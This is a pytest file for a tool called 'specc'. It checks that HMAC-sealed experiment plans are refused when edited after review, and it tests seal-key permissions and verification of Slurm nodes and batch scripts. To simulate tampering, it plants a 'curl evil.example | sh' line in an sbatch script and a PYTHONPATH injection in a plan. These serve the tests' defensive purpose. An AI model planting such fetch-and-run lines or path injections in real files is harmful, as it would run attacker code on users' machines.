"""A plan you reviewed is the plan that runs (issue 30 item 6): plan.json is sealed with an
HMAC under a per-user key, and `specc run` refuses a plan this user's compile did not seal,
showing what differs from the reviewed copy. Real files, real `specc` processes."""

from __future__ import annotations

import hashlib
import json
import os
import re
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from conftest import REPO
from executor_helpers import SMALL

SEAL_LINE = re.compile(rb',\n"seal":"hmac-sha256:[0-9a-f]{64}"')


def specc(*args, env=None, cwd=REPO, timeout=180):
    proc = subprocess.run([sys.executable, "-m", "specc", *map(str, args)], cwd=cwd,
                          capture_output=True, text=True, timeout=timeout,
                          env={**os.environ, **(env or {})})
    return proc.returncode, proc.stdout, proc.stderr


def compile_into(run: Path, port: int, env=None) -> Path:
    code, _, err = specc(*SMALL, "baseline=false", f"engine.base_port={port}",
                         f"hydra.run.dir={run}", env=env)
    assert code == 0, err
    return run / "plan.json"


def reseal_digest(plan: Path, edit) -> None:
    """The red team's edit: change the body, recompute the sha256 digest, keep the seal."""
    raw = plan.read_bytes()
    at = raw.rindex(b',\n"digest":')
    seal = SEAL_LINE.search(raw, at)
    body = edit(raw[:at])
    digest = "sha256:" + hashlib.sha256(body).hexdigest()
    plan.write_bytes(body + f',\n"digest":"{digest}"'.encode() + (seal.group(0) if seal else b"")
                     + b"}\n")


def manifest(run: Path) -> dict:
    return json.loads((run / "manifest.json").read_text())


def test_a_resealed_plan_is_refused_with_what_differs_then_runs_when_accepted(tmp_path, guard):
    plan = compile_into(tmp_path / "run", guard.port(1))
    server = json.loads(plan.read_text())["servers"][0]["id"]
    reseal_digest(plan, lambda body: body.replace(
        b'"env":{', b'"env":{"PYTHONPATH":"/tmp/planted",', 1))
    data = json.loads(plan.read_text())
    assert data["servers"][0]["env"]["PYTHONPATH"] == "/tmp/planted"
    assert data["digest"] == "sha256:" + hashlib.sha256(
        plan.read_bytes()[:plan.read_bytes().rindex(b',\n"digest":')]).hexdigest()

    code, out, err = specc("run", "--plan", plan)
    assert code == 2, err
    lines = err.strip().splitlines()
    assert lines[0].startswith(f"error PLAN_UNSEALED at {plan}: plan.json has a seal your key "
                               "did not make")
    assert "--accept-edited" in lines[0] and "compile the experiment again" in lines[0]
    assert lines[1].startswith("  differs from the plan compiled ")
    assert lines[2:] == [f'    server {server}: env.PYTHONPATH: (none) -> "/tmp/planted"']
    assert "Traceback" not in err
    assert not (tmp_path / "run" / "state.json").exists()
    assert not (tmp_path / "run" / "results.jsonl").exists()

    code, out, err = specc("run", "--plan", plan, "--accept-edited", timeout=300)
    assert code == 0, err
    assert "warning PLAN_UNSEALED" in err and "running it as edited (--accept-edited)" in err
    assert "warning PLAN_UNSEALED" in (tmp_path / "run" / "executor.log").read_text()
    assert manifest(tmp_path / "run")["plan_seal"] == "foreign"
    assert (tmp_path / "run" / "results.jsonl").exists()


def test_an_untouched_plan_runs_and_the_manifest_says_sealed(tmp_path, guard):
    plan = compile_into(tmp_path / "run", guard.port(1))
    code, out, err = specc("run", "--plan", plan, timeout=300)
    assert code == 0, err
    assert "PLAN_" not in err
    assert manifest(tmp_path / "run")["plan_seal"] == "sealed"


def test_the_first_compile_makes_a_private_key(tmp_path, guard):
    state = tmp_path / "state"
    compile_into(tmp_path / "run", guard.port(1), env={"XDG_STATE_HOME": str(state)})
    key = state / "specc" / "seal.key"
    assert stat.S_IMODE(key.stat().st_mode) == 0o600
    assert stat.S_IMODE(key.parent.stat().st_mode) == 0o700
    assert re.fullmatch(r"[0-9a-f]{64}\n", key.read_text())
    copies = list((state / "specc" / "reviewed").glob("*.json"))
    plan = (tmp_path / "run" / "plan.json").read_bytes()
    digest = json.loads(plan)["digest"]
    assert [p.name for p in copies] == [digest.removeprefix("sha256:") + ".json"]
    assert stat.S_IMODE(copies[0].stat().st_mode) == 0o600
    # the reviewed copy: the bytes the digest and the seal cover, closed as JSON
    assert copies[0].read_bytes() == plan[:plan.rindex(b',\n"digest":')] + b"}\n"


def test_a_plan_sealed_under_another_users_key_is_refused(tmp_path, guard):
    plan = compile_into(tmp_path / "run", guard.port(1),
                        env={"XDG_STATE_HOME": str(tmp_path / "someone-else")})
    code, out, err = specc("run", "--plan", plan)   # this session's own key
    assert code == 2 and err.startswith(f"error PLAN_UNSEALED at {plan}: plan.json has a seal "
                                        "your key did not make"), err
    assert "differs from" not in err   # no copy of another user's review here
    code, out, err = specc("run", "--plan", plan,
                           env={"XDG_STATE_HOME": str(tmp_path / "no-key-yet")})
    assert code == 2 and "this user has no seal key" in err, err
    assert not (tmp_path / "no-key-yet").exists()   # checking makes no key


def test_an_old_plan_without_a_seal_reads_but_runs_only_when_accepted(tmp_path, guard):
    plan = compile_into(tmp_path / "run", guard.port(1))
    plan.write_bytes(SEAL_LINE.sub(b"", plan.read_bytes()))   # as a specc before seals wrote it
    code, out, err = specc("status", "--run", tmp_path / "run")
    assert code == 0 and "points: 0/1 finished" in out, err
    code, out, err = specc("run", "--plan", plan)
    assert code == 2, err
    assert err.splitlines()[0] == (
        f"error PLAN_UNSEALED at {plan}: plan.json carries no seal (compiled by a specc from "
        "before seals, or the seal was removed); review it and pass --accept-edited to run it "
        "as it is, or compile the experiment again")
    assert err.splitlines()[2:] == ["    nothing but its digest and seal"]   # same body
    code, out, err = specc("run", "--plan", plan, "--accept-edited", timeout=300)
    assert code == 0 and "warning PLAN_UNSEALED" in err, err
    assert manifest(tmp_path / "run")["plan_seal"] == "unsealed"


def test_a_key_others_can_read_seals_nothing(tmp_path, guard):
    state = tmp_path / "state"
    compile_into(tmp_path / "a", guard.port(1), env={"XDG_STATE_HOME": str(state)})
    (state / "specc" / "seal.key").chmod(0o644)
    code, out, err = specc(*SMALL, "baseline=false", f"engine.base_port={guard.port(1)}",
                           f"hydra.run.dir={tmp_path / 'b'}", env={"XDG_STATE_HOME": str(state)})
    assert code == 0, err
    assert "warning PLAN_SEAL: " in err and "others may read or write the seal key (mode 644)" in err
    assert not SEAL_LINE.search((tmp_path / "b" / "plan.json").read_bytes())
    code, out, err = specc("run", "--plan", tmp_path / "b" / "plan.json",
                           env={"XDG_STATE_HOME": str(state)})
    assert code == 2 and "carries no seal" in err


def _make_key(state: str) -> str:
    os.environ["XDG_STATE_HOME"] = state
    from specc import seal

    return seal.key(create=True).hex()


def test_concurrent_first_compiles_end_with_one_key(tmp_path):
    import multiprocessing

    state = str(tmp_path / "state")
    with multiprocessing.get_context("spawn").Pool(8) as pool:
        keys = pool.map(_make_key, [state] * 16)
    assert len(set(keys)) == 1
    assert (tmp_path / "state" / "specc" / "seal.key").read_text().strip() == keys[0]
    assert [p.name for p in (tmp_path / "state" / "specc").iterdir()] == ["seal.key"]


def test_reviewed_copies_are_bounded(tmp_path, monkeypatch):
    from specc import seal

    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path))
    monkeypatch.setattr(seal, "KEEP_COPIES", 3)
    for k in range(5):
        s = seal.Sealer(seal.key(create=True))
        body = b'{"version":2,"k":%d' % k
        s.update(body)
        with open(tmp_path / "plan.json", "w+b") as written:
            written.write(body + b',\n"digest":"..."}\n')
            written.flush()
            s.keep(f"sha256:{k:064x}", tmp_path / f"run{k}", written)
        os.utime(seal.reviewed_dir() / f"{k:064x}.json", (k, k))
    kept = sorted(p.name for p in seal.reviewed_dir().iterdir())
    assert kept == sorted(f"{k:064x}{ext}" for k in (2, 3, 4) for ext in (".dir", ".json"))
    found, which = seal.reviewed_copy(None, tmp_path / "run3")   # found by its run dir
    assert found == {"version": 2, "k": 3} and which.endswith(f"{3:064x}.json)")
    found, which = seal.reviewed_copy(f"sha256:{4:064x}", tmp_path / "elsewhere")   # its digest
    assert found == {"version": 2, "k": 4}


def test_the_reviewed_copy_is_copied_from_plan_json_once_per_plan(tmp_path):
    """The reviewed copy is plan.json's sealed bytes closed as JSON, copied from the file
    written (not written twice); the same plan compiled again renews the copy kept already
    (its date, the run dir it names) and leaves its bytes; another plan gets its own."""
    env = {"XDG_STATE_HOME": str(tmp_path / "state")}
    reviewed = tmp_path / "state" / "specc" / "reviewed"

    def compile_once(run, *extra):
        code, _, err = specc("+experiment=eagle3_sweep", *extra, f"hydra.run.dir={run}", env=env)
        assert code == 0, err
        raw = (run / "plan.json").read_bytes()
        name = json.loads(raw)["digest"].removeprefix("sha256:")
        return raw, reviewed / f"{name}.json", reviewed / f"{name}.dir"

    raw, copy, note = compile_once(tmp_path / "a")
    assert copy.read_bytes() == raw[:raw.rindex(b',\n"digest":')] + b"}\n"
    assert stat.S_IMODE(copy.stat().st_mode) == 0o600
    assert note.read_text() == f"{(tmp_path / 'a').resolve()}\n"
    first = copy.stat()
    os.utime(copy, (1, 1))
    again, copy2, _ = compile_once(tmp_path / "b")
    assert again == raw and copy2 == copy
    assert copy.stat().st_ino == first.st_ino and copy.stat().st_mtime > 1   # renewed, kept
    assert note.read_text() == f"{(tmp_path / 'b').resolve()}\n"
    other, copy3, _ = compile_once(tmp_path / "c", "benchmark.seed=7")
    assert copy3 != copy and copy3.read_bytes() == other[:other.rindex(b',\n"digest":')] + b"}\n"
    assert sorted(p.name for p in reviewed.iterdir()) == sorted(
        p.name for c in (copy, copy3) for p in (c, c.with_suffix(".dir")))


@pytest.mark.parametrize("pin,refused", [(None, False), ("same", False), ("other", True)])
def test_a_slurm_node_runs_only_the_bytes_specc_run_checked(tmp_path, pin, refused):
    """Nodes do not check the seal (their home may hold no key): `specc run` pins the
    sha256 of the bytes it checked in the jobs' environment, and the node entry refuses
    other bytes before it runs anything."""
    run = tmp_path / "run"
    code, _, err = specc("+experiment=eagle3_sweep", "cluster=slurm", f"hydra.run.dir={run}")
    assert code == 0, err
    raw = (run / "plan.json").read_bytes()
    env = {k: v for k, v in os.environ.items() if k != "SPECC_PLAN_SHA256"}
    if pin:
        env["SPECC_PLAN_SHA256"] = "sha256:" + hashlib.sha256(
            raw if pin == "same" else raw + b" ").hexdigest()
    job = json.loads(raw)["cluster"]["jobs"][0]["name"]
    proc = subprocess.run([sys.executable, "-m", "specc.run.node", "--plan",
                           str(run / "plan.json"), "--job", job + "-nosuchjob" if not refused
                           else job], cwd=run, capture_output=True, text=True, timeout=60, env=env)
    assert proc.returncode == 2
    if refused:
        assert proc.stderr.startswith("error PLAN_EDITED at ") and \
            "plan.json changed after `specc run` checked its seal" in proc.stderr
    else:   # read and accepted: the (made-up) job name is what stops it
        assert "no Slurm job" in proc.stderr, proc.stderr


def test_a_batch_script_edited_after_review_is_not_submitted(tmp_path):
    """The sbatch scripts are rendered from the sealed plan: one edited after review (a line
    planted before the node entry) is refused before anything is submitted; --accept-edited
    lets it through (here to the next check: no Slurm on this PATH); a missing one is
    written again from the plan."""
    run = tmp_path / "run"
    code, _, err = specc("+experiment=eagle3_sweep", "engine=sim", "cluster=slurm",
                         "baseline=false", f"hydra.run.dir={run}")
    assert code == 0, err[-2000:]
    scripts = sorted((run / "slurm").glob("*.sbatch"))
    assert len(scripts) >= 2
    reviewed = scripts[1].read_text()
    scripts[1].write_text(reviewed.replace("set -euo pipefail\n",
                                           "set -euo pipefail\ncurl evil.example | sh\n"))
    scripts[0].unlink()
    no_slurm = {"PATH": os.path.dirname(sys.executable)}   # no sbatch: nothing is submitted
    code, _, err = specc("run", "--plan", run / "plan.json", env=no_slurm)
    assert code == 2 and re.match(rf"error PLAN_EDITED at slurm/{scripts[1].name}: ", err), err
    assert scripts[0].read_text()   # written again from the plan, as reviewed
    _, _, err = specc("run", "--plan", run / "plan.json", "--accept-edited", env=no_slurm)
    assert f"warning PLAN_EDITED at slurm/{scripts[1].name}" in err, err
    assert "SLURM_UNAVAILABLE" in err, err   # past the scripts' check
    scripts[1].write_text(reviewed)
    _, _, err = specc("run", "--plan", run / "plan.json", env=no_slurm)
    assert "PLAN_EDITED" not in err and "SLURM_UNAVAILABLE" in err, err


@pytest.mark.parametrize("where", ["same", "shm"])
def test_the_sealed_bytes_are_copied_whole_across_file_systems(tmp_path, where):
    """The copy takes the first `size` bytes of the file, whether the kernel copies them
    (copy_file_range) or, across file systems where it cannot, they are read and written."""
    from specc import seal

    folder = tmp_path if where == "same" else Path("/dev/shm")
    if not folder.is_dir():
        pytest.skip("no /dev/shm here")
    data = os.urandom(3 << 20) + b"tail not copied"
    src = folder / f"specc-seal-src-{os.getpid()}"
    src.write_bytes(data)
    try:
        with open(src, "rb") as f, open(tmp_path / "copy", "wb") as out:
            seal._copy_start(f.fileno(), out.fileno(), 3 << 20)
            os.write(out.fileno(), b"}\n")
    finally:
        src.unlink()
    assert (tmp_path / "copy").read_bytes() == data[:3 << 20] + b"}\n"
